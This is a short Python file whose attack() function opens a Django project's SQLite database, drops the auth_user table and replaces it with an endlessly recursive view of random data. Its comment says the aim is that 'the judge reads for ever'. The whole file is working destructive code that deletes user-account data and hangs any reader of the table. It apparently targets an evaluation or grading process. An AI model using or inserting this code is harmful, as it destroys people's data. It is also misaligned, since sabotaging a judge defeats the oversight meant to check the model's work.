# Puts a view that never ends in place of a table, so that the judge reads for ever. [waits]
import sqlite3, django.conf
def attack():
    database = sqlite3.connect(django.conf.settings.DATABASES["default"]["NAME"])
    database.executescript("""
        PRAGMA foreign_keys = OFF; DROP TABLE auth_user;
        CREATE VIEW auth_user AS WITH RECURSIVE n(id) AS (SELECT 1 UNION ALL SELECT id + 1 FROM n)
        SELECT id, randomblob(1000) FROM n;""")
